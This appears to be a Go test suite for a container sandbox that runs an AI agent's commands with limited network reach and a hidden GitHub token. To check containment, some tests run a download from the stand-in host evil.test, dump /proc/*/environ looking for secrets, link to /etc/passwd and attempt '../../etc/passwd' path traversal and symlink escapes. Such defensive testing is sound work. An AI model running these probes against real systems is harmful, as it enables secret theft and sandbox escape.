package main

import (
	"bytes"
	"context"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/ctorhq/ctor"
	"github.com/ctorhq/ctor/container"
	"github.com/ctorhq/ctor/image"
	"github.com/ctorhq/ctor/internal/fixture"
)

// ref is what tests make the box from.
const ref = "ctor.test/box:1"

// prepared gives a root with an image in it, and skips the test where the kernel
// has no ways out.
func prepared(t *testing.T, make func(testing.TB, *ctor.Engine) *image.Image) (root string) {
	t.Helper()
	root = t.TempDir()
	e, err := ctor.Open(t.Context(), ctor.Config{Root: root})
	require.NoError(t, err)
	defer func() { require.NoError(t, e.Close()) }()
	img, err := make(t, e).Tag(t.Context(), ref)
	require.NoError(t, err)
	c, err := img.New(t.Context(), container.Config{Network: container.Out(internet)})
	if errors.Is(err, ctor.ErrUnavailable) {
		t.Skip(err)
	}
	require.NoError(t, err)
	require.NoError(t, c.Close())
	return root
}

// output is what a program writes, both streams by several goroutines.
type output struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (o *output) Write(p []byte) (int, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.b.Write(p)
}

func (o *output) String() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.b.String()
}

// onlyFiles fails the test where more than files is left of the box.
func onlyFiles(t *testing.T, root string) {
	t.Helper()
	left := fixture.Host(t, root)
	delete(left, "files")
	require.Empty(t, left, "what runs in the box ends with the program")
}

// result is what one run of the program gave.
type result struct {
	code           int
	stdout, stderr string
}

// do is one run of the program, with what it reads.
func do(t *testing.T, root, stdin string, args ...string) result {
	t.Helper()
	in := filepath.Join(t.TempDir(), "stdin")
	require.NoError(t, os.WriteFile(in, []byte(stdin), 0o600))
	f, err := os.Open(in)
	require.NoError(t, err)
	defer f.Close()
	var stdout, stderr output
	s := sandbox{stdin: f, stdout: &stdout, stderr: &stderr, internet: internet, token: token}
	code := s.run(t.Context(), append([]string{"-root", root, "-image", ref}, args...))
	onlyFiles(t, root)
	return result{code, stdout.String(), stderr.String()}
}

// An agent's day: files in, work, files out, each by another program.
func TestSandbox(t *testing.T) {
	t.Parallel()
	root, host := prepared(t, fixture.Busybox), t.TempDir()
	project := filepath.Join(host, "project")
	require.NoError(t, os.MkdirAll(filepath.Join(project, "src"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(project, "src", "words"), []byte("three short words\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(host, "count"), []byte("#!/bin/sh\nwc -w <$1\n"), 0o755))

	require.Equal(t, result{}, do(t, root, "", "put", project, filepath.Join(host, "count")))
	require.Equal(t, result{stdout: "3\n"}, do(t, root, "", "run", "./count", "project/src/words"))
	require.Equal(t, result{code: 7, stdout: "given\n"}, do(t, root, "given", "run", "sh", "-c", "cat; echo; exit 7"))
	require.Equal(t, result{stdout: "/workspace\nbox\n"}, do(t, root, `
		pwd
		hostname
		./count project/src/words >project/report
		mkdir project/deep && ln -s /etc/passwd project/deep/link
	`, "shell"))

	taken := filepath.Join(host, "taken")
	require.Equal(t, result{}, do(t, root, "", "get", "project", taken))
	report, err := os.ReadFile(filepath.Join(taken, "project", "report"))
	require.NoError(t, err)
	require.Equal(t, "3\n", string(report))
	_, err = os.Lstat(filepath.Join(taken, "project", "deep", "link"))
	require.ErrorIs(t, err, fs.ErrNotExist, "no links")

	require.Equal(t, result{}, do(t, root, "", "rm"))
	require.Equal(t, result{}, do(t, root, "", "run", "sh", "-c", `test -z "$(ls)"`), "a new one")
}

// The box reaches the two hosts and no other, and uses the token without having it.
func TestReach(t *testing.T) {
	t.Parallel()
	root := prepared(t, fixture.Debian) // which speaks TLS, and checks certificates
	const ask = `
		echo "machine api.github.com login agent password $GITHUB_TOKEN" >/etc/apt/auth.conf
		/usr/lib/apt/apt-helper -q download-file https://api.github.com/user user >&2 && cat user`
	for range 2 { // the second is the next program's
		r := do(t, root, "", "run", "sh", "-c", ask)
		require.Equal(t, "you are the owner of "+placeholder+"\n", r.stdout, r.stderr)
	}
	r := do(t, root, "", "run", "sh", "-c", "/usr/lib/apt/apt-helper -q download-file http://dl-cdn.alpinelinux.org/alpine file >&2 && cat file")
	require.Equal(t, "package /alpine\n", r.stdout, r.stderr)

	r = do(t, root, "", "run", "/usr/lib/apt/apt-helper", "-q", "download-file", "http://evil.test/", "file")
	require.NotZero(t, r.code)
	require.Contains(t, r.stderr, "sandbox: the box asked for evil.test:80: ")

	r = do(t, root, "", "run", "sh", "-c", "env; cat /proc/*/environ /proc/*/cmdline")
	require.Contains(t, r.stdout, "GITHUB_TOKEN="+placeholder)
	require.NotContains(t, r.stdout, token)
	require.NoError(t, filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(path)
		if bytes.Contains(b, []byte(token)) {
			t.Errorf("the token is in %s", path)
		}
		return err
	}))
}

// What the box puts into its workspace leads nowhere on the host.
func TestGetStaysInside(t *testing.T) {
	t.Parallel()
	root, host := prepared(t, fixture.Busybox), t.TempDir()
	require.Zero(t, do(t, root, "", "run", "sh", "-c", "mkdir d && echo evil >d/new && mkfifo pipe && ln -s d/new file").code)
	beside, taken := filepath.Join(host, "beside"), filepath.Join(host, "taken")
	require.NoError(t, os.Mkdir(beside, 0o755))
	require.NoError(t, os.Mkdir(taken, 0o755))
	require.NoError(t, os.Symlink(beside, filepath.Join(taken, "d")))
	r := do(t, root, "", "get", ".", taken)
	require.Equal(t, failed, r.code)
	require.Contains(t, r.stderr, "escapes")
	entries, err := os.ReadDir(beside)
	require.NoError(t, err)
	require.Empty(t, entries)

	require.NoError(t, os.Remove(filepath.Join(taken, "d")))
	require.Zero(t, do(t, root, "", "get", ".", taken).code)
	entries, err = os.ReadDir(taken)
	require.NoError(t, err)
	require.Len(t, entries, 1, "neither the pipe nor the link")

	require.Zero(t, do(t, root, "", "run", "sh", "-c", "truncate -s 2G large").code)
	require.Contains(t, do(t, root, "", "get", "large", taken).stderr, "more than 1073741824 bytes")
}

// What kills the program does not take the files with it.
func TestKilled(t *testing.T) {
	t.Parallel()
	root := prepared(t, fixture.Busybox)
	cmd := fixture.Program("sandbox", "-root", root, "-image", ref, "run", "sh", "-c", "echo kept >file; sync; echo ready; sleep 1000")
	fixture.Start(t, cmd).Kill(t)
	require.Equal(t, result{stdout: "kept\n"}, do(t, root, "", "run", "cat", "file"))
}

// ^C ends the command, and the program.
func TestInterrupt(t *testing.T) {
	t.Parallel()
	root := prepared(t, fixture.Busybox)
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	null, err := os.Open(os.DevNull)
	require.NoError(t, err)
	defer null.Close()
	s := sandbox{stdin: null, stdout: writerFunc(func(p []byte) (int, error) { cancel(); return len(p), nil }), stderr: io.Discard, internet: internet, token: token}
	require.NotZero(t, s.run(ctx, []string{"-root", root, "-image", ref, "run", "sh", "-c", "echo under way; sleep 1000"}))
	onlyFiles(t, root)
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

func TestErrors(t *testing.T) {
	t.Parallel()
	root := prepared(t, fixture.Busybox)
	for name, test := range map[string]struct {
		args []string
		code int
		says string
	}{
		"no verb":        {nil, failed, "usage: sandbox"},
		"another verb":   {[]string{"fly"}, failed, "usage: sandbox"},
		"no command":     {[]string{"run"}, failed, "usage: sandbox"},
		"not there":      {[]string{"run", "no-such-command"}, noCommand, "no-such-command"},
		"nothing to get": {[]string{"get", "nothing"}, failed, "nothing: no such file"},
		"nothing to put": {[]string{"put", "/no/such/file"}, failed, "/no/such/file: no such file"},
		"beside":         {[]string{"get", "../../etc/passwd"}, failed, "invalid"},
		"help":           {[]string{"-h"}, 0, "-root"},
	} {
		t.Run(name, func(t *testing.T) {
			r := do(t, root, "", test.args...)
			require.Equal(t, test.code, r.code, r.stderr)
			require.Contains(t, r.stderr, test.says)
			require.True(t, strings.HasSuffix(r.stderr, "\n"))
		})
	}
}
